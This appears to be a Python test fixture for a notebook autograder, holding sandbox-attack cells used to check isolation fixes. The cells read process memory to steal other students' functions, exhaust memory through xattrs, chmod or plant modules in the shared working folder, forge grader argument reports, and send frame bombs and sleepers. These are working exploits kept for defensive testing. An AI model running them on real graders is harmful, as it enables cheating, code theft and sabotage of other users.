"""Submissions that attack the students graded before or after them, and their honest twins.

Each attack once beat `grader autograde` in a class graded one submission after the other (the
sandbox's first process, the zygote, received and compiled every submission's cells, and storage
was wiped between submissions file by file): tests/test_attacks.py grades them in a class of
their own, between honest students, and bench/isolation_attacks.py measures what each cost
before and after. Each is a cell appended to a generated submission (grader.release.classgen).
"""

from __future__ import annotations

from pathlib import Path

from autograde_tests import engine

ASSIGNMENT = "nn_from_scratch"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
#: Run seed and --timeout of the class.
SEED = 4
TIMEOUT = "3"
GRADED_NAMES = sorted({c.function for c in engine.all_checks(ASSIGNMENT)})

#: A notebook with no solution of its own that searches the memory of its process for
#: `def <graded name>(` and runs what compiles: other students' functions, if a process that
#: serves this submission ever held them. /proc/self/mem first (it reads any mapping), then
#: ctypes.string_at on the readable anonymous mappings.
MEMORY_SCAN = r'''
import ctypes as _ctypes
import re as _re

_NAMES = %(names)r


def _regions():
    with open("/proc/self/maps") as f:
        lines = f.read().splitlines()
    for line in lines:
        parts = line.split()
        if len(parts) < 5 or not parts[1].startswith("r"):
            continue
        name = parts[5] if len(parts) > 5 else ""
        if name.startswith("/") or name in ("[vvar]", "[vvar_vclock]", "[vsyscall]", "[vdso]"):
            continue
        low, high = (int(x, 16) for x in parts[0].split("-"))
        if 0 < high - low <= 256 << 20:
            yield low, high


def _read(low, high, mem):
    if mem is not None:
        try:
            mem.seek(low)
            return mem.read(high - low)
        except (OSError, ValueError, OverflowError):
            pass
    try:
        return _ctypes.string_at(low, high - low)
    except (OSError, ValueError):
        return b""


def _candidates(use_mem):
    mem = None
    if use_mem:
        try:
            mem = open("/proc/self/mem", "rb", buffering=0)
        except OSError:
            mem = None
    pattern = _re.compile(("de" + "f (" + "|".join(_NAMES) + r")\(").encode())
    found = {}
    for low, high in list(_regions()):
        data = _read(low, high, mem)
        for match in pattern.finditer(data):
            chunk = data[match.start():match.start() + 8000].split(b"\x00")[0]
            found.setdefault(match.group(1).decode(), []).append(chunk)
    return found


def _steal(use_mem):
    stolen = {}
    for name, chunks in _candidates(use_mem).items():
        for chunk in chunks:
            lines = chunk.decode("utf-8", "replace").split("\n")
            body = [lines[0]]
            for line in lines[1:]:
                if line.strip() and not line[0].isspace():
                    break
                body.append(line)
            source = "\n".join(body)
            if "NotImplementedError" in source or "YOUR CODE" in source:
                continue
            scratch = dict(globals())
            try:
                exec(compile(source, "<found>", "exec"), scratch)
            except BaseException:
                continue
            if callable(scratch.get(name)):
                stolen[name] = scratch[name]
                break
    globals().update(stolen)
    return sorted(stolen)


STOLEN = _steal(%(use_mem)r)
'''


def memory_scan(use_mem: bool = True) -> str:
    return MEMORY_SCAN % {"names": GRADED_NAMES, "use_mem": use_mem}


#: Extended attributes on the folders a check cannot replace (before: the sandbox's /tmp and
#: /tmp/work lived as long as the sandbox): up to 300 MB of kernel memory, outside the address
#: space limit and the tmpfs size, and a channel to the checks and students that come later.
XATTR_PIN = r'''
import os as _os


def _pin(total=300 << 20):
    value = b"x" * 60000
    pinned = 0
    for i in range(total // len(value)):
        for path in ("/tmp", "/tmp/work", "."):
            try:
                _os.setxattr(path, f"user.nnkit{i}", value)
                pinned += len(value)
            except OSError:
                return pinned
    return pinned


PINNED = _pin()
'''

#: The working folder made unusable for whoever comes next (as root, modes were never reset).
CHMOD_WORKDIR = r'''
import os as _os

for _path in ("/tmp/work", "/tmp"):
    try:
        _os.chmod(_path, 0o444)
    except OSError:
        pass
'''

#: A module planted where the next student's `import` looks first (the working folder), in a
#: folder a non-root grader could not empty.
PLANT_MODULE = r'''
import os as _os

try:
    with open("/tmp/work/tqdm.py", "w") as _f:
        _f.write("def tqdm(*args, **kwargs):\n    raise RuntimeError('planted by another student')\n")
    _os.chmod("/tmp/work", 0o555)
except OSError:
    pass
'''

#: An honest student whose `train` reads a file next to the notebook and shows progress with
#: tqdm: what the two attacks above broke for the next student.
VICTIM = r'''
from tqdm import tqdm as _tqdm

_honest_train = train


def train(X, y, layer_sizes, lr, epochs, batch_size, seed):
    json.loads(Path("hyperparameters.json").read_text())
    for _ in _tqdm(range(1), disable=True):
        pass
    return _honest_train(X, y, layer_sizes, lr, epochs, batch_size, seed)
'''

#: In-place sgd_step and a numerical_gradient that never restores x (the plain mutants), hidden
#: by replacing what the worker reports of the arguments (found by walking the stack): params as
#: a tuple of untouched copies, x as the next float after the original (a "change" the old
#: grader believed, and within every tolerance).
MUTANTS = Path(__file__).with_name("mutants") / ASSIGNMENT


def _mutant(name: str, first_line: str) -> str:
    """A mutant of tests/mutants/ whose function starts with `first_line`."""
    source = (MUTANTS / f"{name}.py").read_text().split("\nEXPECT")[0]
    head, body = source.split("):\n", 1)
    return f"{head}):\n    {first_line}\n{body}"


_MUTANTS = (
    _mutant("sgd_step_in_place",
            "_forge(lambda args: (tuple((W.copy(), b.copy()) for W, b in args[0]), *args[1:]))")
    + _mutant("numgrad_no_restore",
              "_forge(lambda args: (args[0], np.nextafter(x.copy(), np.inf), *args[2:]))"))

FORGED_REPORT = r'''
import sys as _sys

_REPLACED = {}


def _forge(make):
    """Make the worker report `make(args)` as the arguments of the current call: its value
    normalizer is replaced (once) by one that swaps the call's argument tuple."""
    frame = _sys._getframe(2)
    while frame is not None:
        me, args = frame.f_locals.get("self"), frame.f_locals.get("args")
        if me is not None and hasattr(me, "send_message") and type(args) is tuple:
            _REPLACED[id(args)] = (args, make(args))
            if not getattr(me, "_forged", False):
                real = me.normalize

                def fake(obj, keep=(), _depth=0):
                    if _depth == 0 and id(obj) in _REPLACED and _REPLACED[id(obj)][0] is obj:
                        obj = _REPLACED.pop(id(obj))[1]
                    return real(obj, keep, _depth)

                me.normalize = fake
                _sys.modules["nnkit_contract.values"].normalize = fake
                if hasattr(me, "report_args"):     # the worker that names the shared arrays
                    me.report_args = lambda obj, depth=0: obj
                me._forged = True
            return
        frame = frame.f_back
''' + _MUTANTS

#: The same two mutants without the forgery (the honest twin of FORGED_REPORT).
PLAIN_MUTANTS = "\ndef _forge(make):\n    pass\n" + _MUTANTS

#: Every graded function answers with a forged result frame of about 2 MB holding 700k empty
#: lists: before, the grader spent about a second parsing and walking each, on its own time.
FRAME_BOMB = r'''
import json as _json
import os as _os
import struct as _struct
import sys as _sys

_BOMB = "[" + ",".join(["[]"] * 700_000) + "]"


def _send_bomb():
    frame = _sys._getframe(1)
    while frame is not None and "call_id" not in frame.f_locals:
        frame = frame.f_back
    if frame is None:
        return
    me, call_id = frame.f_locals["self"], frame.f_locals["call_id"]
    header = ('{"m":{"kind":"result","id":' + _json.dumps(call_id)
              + ',"type_name":"float","value":' + _BOMB + '},"p":[]}').encode()
    body = _struct.pack("<I", len(header)) + header
    _os.write(me.fd_out, b"NKW1" + _struct.pack("<Q", len(body)) + body)


for _name in NAMES:
    def _bombed(*args, **kwargs):
        _send_bomb()
        return None
    globals()[_name] = _bombed
'''.replace("NAMES", repr(GRADED_NAMES))

#: linear_forward is right but sleeps first: before, every call held a grading slot until the
#: wall-clock backstop (6 calls x 60 s with the default limits).
SLEEPER = r'''
import time as _time

_awake_linear_forward = linear_forward


def linear_forward(X, W, b):
    _time.sleep(100)
    return _awake_linear_forward(X, W, b)
'''


#: student -> (cell appended to the reference solution, or to the stubs after "stubs:"; its
#: honest twin). Graded with --jobs 1 in this order (name order): every attacker is followed by
#: an honest student it would hurt.
CLASS: dict[str, tuple[str, str | None]] = {
    "a0_victim": (VICTIM, None),
    "b1_memory_scan": ("stubs:" + memory_scan(True), "g2_stubs"),
    "b2_victim": (VICTIM, None),
    "b3_memory_scan_ctypes": ("stubs:" + memory_scan(False), "g2_stubs"),
    "b4_victim": (VICTIM, None),
    "c1_xattr": (VICTIM + XATTR_PIN, "a0_victim"),
    "c2_victim": (VICTIM, None),
    "d1_chmod": (VICTIM + CHMOD_WORKDIR, "a0_victim"),
    "d2_victim": (VICTIM, None),
    "e1_plant": (VICTIM + PLANT_MODULE, "a0_victim"),
    "e2_victim": (VICTIM, None),
    "f1_forged_report": (FORGED_REPORT, "f2_plain_mutants"),
    "f2_plain_mutants": (PLAIN_MUTANTS, None),
    "g1_frame_bomb": ("stubs:" + FRAME_BOMB, "g2_stubs"),
    "g2_stubs": ("stubs:", None),
    "h1_sleeper": (VICTIM + SLEEPER, "a0_victim"),
    "h2_victim": (VICTIM, None),
}
VICTIMS = [s for s in CLASS if s.endswith("_victim")]


def write_class(subs: Path, students: list[str]) -> None:
    """SUBS/<student>/<a>/<a>.ipynb for each student of CLASS."""
    from grader.paths import course
    from grader.release.classgen import make_submission, reference_answers, write_submission

    release = course().assignments / ASSIGNMENT / NOTEBOOK
    answers = reference_answers(course().solution_notebook(ASSIGNMENT))
    for student in students:
        code, _ = CLASS[student]
        stubs = code.startswith("stubs:")
        code = code.removeprefix("stubs:")
        write_submission(subs, student, ASSIGNMENT, NOTEBOOK,
                         make_submission(release, answers, {"cell:append": code} if code else {},
                                         all_stubs=stubs))
